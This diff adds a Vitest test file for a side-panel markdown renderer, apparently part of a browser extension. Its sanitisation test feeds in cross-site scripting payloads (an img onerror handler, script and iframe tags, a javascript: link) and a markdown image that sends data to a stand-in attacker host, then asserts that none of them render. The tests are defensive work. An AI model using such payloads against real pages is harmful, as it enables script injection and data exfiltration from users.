@@ -1,0 +1,45 @@
+// @vitest-environment happy-dom
+import { describe, expect, it } from 'vitest';
+import { renderMarkdown } from '@/lib/sidepanel/render-markdown';
+
+function renderInto(markdown: string): HTMLElement {
+  const container = document.createElement('div');
+  container.innerHTML = renderMarkdown(markdown);
+  return container;
+}
+
+describe('renderMarkdown', () => {
+  it('renders formatting, lists, code and tables', () => {
+    const container = renderInto('**Two mugs** added:\n\n- blue\n- red\n\n`cart` is *ready*\n\n| a | b |\n|---|---|\n| 1 | 2 |');
+    expect(container.querySelector('strong')?.textContent).toBe('Two mugs');
+    expect(container.querySelectorAll('li')).toHaveLength(2);
+    expect(container.querySelector('code')?.textContent).toBe('cart');
+    expect(container.querySelector('td')?.textContent).toBe('1');
+  });
+
+  it('shows raw HTML as text and renders no image or script', () => {
+    const container = renderInto(
+      'Look <img src=x onerror="alert(1)"> here\n\n<script>alert(2)</script>\n\n![secret](https://evil.example/?q=data)\n\n<iframe src="https://evil.example"></iframe>',
+    );
+    expect(container.querySelector('img, script, iframe, [onerror]')).toBeNull();
+    expect(container.textContent).toContain('<img src=x onerror="alert(1)">');
+    expect(container.textContent).toContain('<script>alert(2)</script>');
+    expect(container.textContent).toContain('[image: secret]');
+    expect(container.innerHTML).not.toContain('evil.example/?q=data');
+  });
+
+  it('opens links in a new tab without an opener, and drops script links', () => {
+    const container = renderInto('[shop](https://shop.example/cart) and [bad](javascript:alert(1))');
+    const links = container.querySelectorAll('a');
+    expect(links[0]?.getAttribute('href')).toBe('https://shop.example/cart');
+    expect(links[0]?.getAttribute('target')).toBe('_blank');
+    expect(links[0]?.getAttribute('rel')).toBe('noopener noreferrer');
+    expect(container.innerHTML).not.toContain('javascript:');
+  });
+
+  it('turns task list boxes into text, not inputs', () => {
+    const container = renderInto('- [x] done\n- [ ] open');
+    expect(container.querySelector('input')).toBeNull();
+    expect(container.textContent).toContain('☑ done');
+  });
+});
